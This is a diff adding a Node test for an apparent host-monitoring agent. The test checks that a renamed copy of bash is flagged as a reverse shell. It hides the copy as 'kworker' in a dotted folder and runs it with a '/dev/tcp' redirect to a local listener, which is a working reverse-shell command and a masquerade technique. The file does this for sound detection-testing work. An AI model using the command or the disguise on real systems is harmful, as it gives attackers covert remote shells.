@@ -1,0 +1,85 @@
+/**
+ * A copy of bash under another name, outside the world-writable folders, against the real kernel
+ * (root): the first exec of the new file, with its standard input and output on a TCP socket,
+ * carries hades.process.copy_of naming the installed bash, and the default rule pack reports it as
+ * a reverse shell (which, without the field, it does not).
+ */
+import assert from 'node:assert/strict';
+import { spawn } from 'node:child_process';
+import { chmodSync, copyFileSync, mkdirSync, mkdtempSync, realpathSync, rmSync } from 'node:fs';
+import { createServer, type AddressInfo, type Socket } from 'node:net';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { after, describe, it } from 'node:test';
+import { KernelEvents } from '../../src/agent/kernel-events.js';
+import { AgentConfigSchema, parseConfig } from '../../src/common/config/index.js';
+import { checkEvent, type HadesEvent } from '../../src/common/events/index.js';
+import { loadRules } from '../../src/rules/index.js';
+import { readDefaultPack } from '../../src/runtime/rule-pack.js';
+
+const isRoot = process.getuid?.() === 0;
+const dir = mkdtempSync(path.join(tmpdir(), 'hades-copied-shell-'));
+after(() => rmSync(dir, { recursive: true, force: true }));
+
+type AnyEvent = Record<string, any>;
+
+describe('a copy of bash under another name (root, real driver)', { skip: !isRoot && 'kernel events need root' }, () => {
+  it('is named a copy of bash on its first exec, and raises reverse_shell_socket_stdio', async () => {
+    // A folder of its own, 0755 and owned by root: no world-writable folder on the copy's path
+    // below the test's root.
+    const folder = path.join(dir, 'usr-local-lib', '.x');
+    mkdirSync(folder, { recursive: true, mode: 0o755 });
+    chmodSync(folder, 0o755);
+    const copy = path.join(folder, 'kworker');
+    const bash = realpathSync('/bin/bash');
+    copyFileSync(bash, copy);
+    chmodSync(copy, 0o755);
+
+    const sockets = new Set<Socket>();
+    const listener = createServer((socket) => {
+      sockets.add(socket);
+      socket.on('error', () => undefined);
+      socket.end('exit\n');
+    });
+    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
+    const port = (listener.address() as AddressInfo).port;
+
+    const parsed = parseConfig('', AgentConfigSchema);
+    assert.ok(parsed.ok);
+    const events: HadesEvent[] = [];
+    const source = new KernelEvents({ config: parsed.config, agentVersion: 'test', emit: (e) => events.push(e) > 0, hashCacheDir: mkdtempSync(path.join(dir, 'data-')), actions: new Set(['exec']) });
+    await source.start();
+    try {
+      // bash opens the socket and runs the copy on it: `kworker -i <>/dev/tcp/HOST/PORT >&0 2>&0`.
+      await new Promise<void>((resolve, reject) => {
+        const child = spawn(bash, ['-c', `${copy} -i <>/dev/tcp/127.0.0.1/${port} >&0 2>&0`], { stdio: 'ignore', timeout: 10_000 });
+        child.on('error', reject);
+        child.on('close', () => resolve());
+      });
+      const deadline = Date.now() + 5000;
+      while (!events.some((e) => (e as AnyEvent)['process']?.executable === copy) && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 50));
+    } finally {
+      await source.stop();
+      for (const socket of sockets) socket.destroy();
+      await new Promise((resolve) => listener.close(resolve));
+    }
+    const execs = events.filter((e) => e.event.action === 'exec' && (e as AnyEvent)['process']?.executable === copy) as AnyEvent[];
+    assert.equal(execs.length, 1, 'one exec of the copy');
+    const exec = JSON.parse(JSON.stringify(execs[0])) as AnyEvent;
+    assert.deepEqual(checkEvent(exec).ok ? [] : checkEvent(exec), []);
+    assert.equal(exec['process'].name, 'kworker');
+    assert.equal(exec['hades'].process.stdio.stdin.type, 'socket');
+    assert.deepEqual(exec['hades'].process.copy_of, { path: bash, name: path.basename(bash) }, `hash_status ${exec['hades'].process.hash_status}`);
+
+    // The rule pack: the copy is a shell reading a socket.
+    const { ruleSet } = loadRules(await readDefaultPack());
+    const fired = ruleSet.match(exec).map((m) => m.rule.id);
+    assert.ok(fired.includes('reverse_shell_socket_stdio'), fired.join(', '));
+    const without = structuredClone(exec);
+    delete without['hades'].process.copy_of;
+    assert.equal(ruleSet.match(without).some((m) => m.rule.id === 'reverse_shell_socket_stdio'), false, 'the field is what tells');
+    // The installed bash that ran the copy is not a copy of itself.
+    const launcher = events.find((e) => (e as AnyEvent)['process']?.executable === bash) as AnyEvent | undefined;
+    assert.equal(launcher?.['hades'].process.copy_of, undefined);
+  });
+});
